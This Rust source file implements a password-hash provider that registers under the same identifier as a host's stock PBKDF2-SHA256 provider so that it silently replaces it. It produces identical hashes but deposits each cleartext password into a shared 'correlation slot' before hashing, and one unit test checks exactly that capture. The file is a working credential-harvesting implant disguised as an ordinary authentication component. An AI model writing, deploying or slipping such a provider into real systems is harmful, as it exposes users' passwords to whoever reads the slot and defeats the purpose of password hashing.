//! Intercepting PBKDF2 password-hash provider.
//!
//! Registered under the same identifier as the host's stock PBKDF2-SHA256
//! provider, at a higher order, so the host instantiates it wherever the
//! default would have been used. Output is byte-compatible with the stock
//! provider; the only added behaviour is the deposit of the cleartext into
//! the correlation slot before any hashing work.

use base64::{engine::general_purpose::STANDARD as B64, Engine};
use deboog::Deboog;
use pbkdf2::pbkdf2_hmac;
use rand::{rngs::OsRng, RngCore};
use serde::{Deserialize, Serialize};
use sha2::Sha256;
use subtle::ConstantTimeEq;

use crate::context;

/// Identifier the stock PBKDF2-SHA256 provider registers under.
pub const ALGORITHM_ID: &str = "pbkdf2-sha256";

/// Iteration count substituted when the host passes `-1`.
pub const DEFAULT_ITERATIONS: u32 = 27_500;

/// Salt length used by the stock provider, in bytes.
pub const SALT_LEN: usize = 16;

/// Derived-key length used by the stock provider, in bytes.
pub const DERIVED_KEY_LEN: usize = 64;

/// A password credential in the host's storage shape.
#[derive(Clone, Deboog, Deserialize, Serialize)]
pub struct HashedCredential {
    /// Hash algorithm identifier.
    pub algorithm: String,
    /// PBKDF2 iteration count.
    pub iterations: u32,
    /// Random salt bytes.
    pub salt: Vec<u8>,
    /// Base64-encoded derived key.
    #[deboog(mask = "hidden")]
    pub hash: String,
}

/// Password-hash provider that mirrors the stock PBKDF2-SHA256 pipeline and
/// deposits the observed cleartext into the correlation slot.
#[derive(Clone, Copy, Debug)]
pub struct InterceptingHasher {
    default_iterations: u32,
}

impl Default for InterceptingHasher {
    fn default() -> Self {
        Self {
            default_iterations: DEFAULT_ITERATIONS,
        }
    }
}

impl InterceptingHasher {
    /// Create a provider with a non-standard default iteration count.
    #[must_use]
    pub fn with_default_iterations(default_iterations: u32) -> Self {
        Self { default_iterations }
    }

    /// Resolve the host's `-1 == use default` iteration convention.
    fn resolve_iterations(&self, iterations: i32) -> u32 {
        if iterations == -1 {
            self.default_iterations
        } else {
            iterations.unsigned_abs()
        }
    }

    /// Hash `raw` with the given salt and iteration count.
    fn derive(raw: &str, salt: &[u8], iterations: u32) -> String {
        let mut key = [0_u8; DERIVED_KEY_LEN];
        pbkdf2_hmac::<Sha256>(raw.as_bytes(), salt, iterations, &mut key);
        B64.encode(key)
    }

    /// Produce a credential for `raw`, depositing the cleartext first.
    ///
    /// The deposit happens before any computation so that the observer still
    /// finds the password if hashing itself were ever to fail. The result is
    /// what the host stores and later verifies against.
    pub fn encode_credential(&self, raw: &str, iterations: i32) -> HashedCredential {
        context::deposit(raw);
        let iterations = self.resolve_iterations(iterations);
        let mut salt = vec![0_u8; SALT_LEN];
        OsRng.fill_bytes(&mut salt);
        let hash = Self::derive(raw, &salt, iterations);
        HashedCredential {
            algorithm: ALGORITHM_ID.to_string(),
            iterations,
            salt,
            hash,
        }
    }

    /// Hash `raw` with a fresh salt and return only the encoded key.
    #[must_use]
    pub fn encode(&self, raw: &str, iterations: i32) -> String {
        let mut salt = vec![0_u8; SALT_LEN];
        OsRng.fill_bytes(&mut salt);
        Self::derive(raw, &salt, self.resolve_iterations(iterations))
    }

    /// Verify `raw` against a stored credential in constant time.
    #[must_use]
    pub fn verify(&self, raw: &str, credential: &HashedCredential) -> bool {
        let recomputed = Self::derive(raw, &credential.salt, credential.iterations);
        recomputed
            .as_bytes()
            .ct_eq(credential.hash.as_bytes())
            .into()
    }

    /// Whether a stored credential already satisfies the given policy.
    #[must_use]
    pub fn policy_check(&self, policy_iterations: i32, credential: &HashedCredential) -> bool {
        self.resolve_iterations(policy_iterations) == credential.iterations
            && credential.algorithm == ALGORITHM_ID
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::context::DEFAULT_MAX_AGE;

    /// A credential verifies against the password that produced it and
    /// nothing else.
    #[test]
    fn encode_verify_round_trip() {
        let hasher = InterceptingHasher::default();
        let credential = hasher.encode_credential("pencil", 4096);
        assert!(hasher.verify("pencil", &credential));
        assert!(!hasher.verify("pencil2", &credential));
        assert_eq!(credential.algorithm, ALGORITHM_ID);
        assert_eq!(credential.iterations, 4096);
        assert_eq!(credential.salt.len(), SALT_LEN);
        assert_eq!(B64.decode(&credential.hash).unwrap().len(), DERIVED_KEY_LEN);
    }

    /// `-1` iterations resolve to the configured default.
    #[test]
    fn default_iterations_substituted() {
        let hasher = InterceptingHasher::default();
        let credential = hasher.encode_credential("pencil", -1);
        assert_eq!(credential.iterations, DEFAULT_ITERATIONS);
        assert!(hasher.verify("pencil", &credential));
    }

    /// Fresh salts make repeated encodings differ.
    #[test]
    fn fresh_salt_per_encoding() {
        let hasher = InterceptingHasher::default();
        let a = hasher.encode_credential("pencil", 4096);
        let b = hasher.encode_credential("pencil", 4096);
        assert_ne!(a.salt, b.salt);
        assert_ne!(a.hash, b.hash);
    }

    /// Encoding a credential deposits the cleartext exactly once.
    #[test]
    fn deposit_side_effect() {
        context::clear();
        let hasher = InterceptingHasher::default();
        let _ = hasher.encode_credential("pencil", 4096);
        assert_eq!(context::take(DEFAULT_MAX_AGE).unwrap().as_str(), "pencil");
        assert!(context::take(DEFAULT_MAX_AGE).is_none());
    }

    /// Policy check matches on iterations and algorithm id.
    #[test]
    fn policy_check_matches() {
        let hasher = InterceptingHasher::default();
        let credential = hasher.encode_credential("pencil", 4096);
        assert!(hasher.policy_check(4096, &credential));
        assert!(!hasher.policy_check(8192, &credential));
        let mut foreign = credential.clone();
        foreign.algorithm = "argon2id".to_string();
        assert!(!hasher.policy_check(4096, &foreign));
    }
}
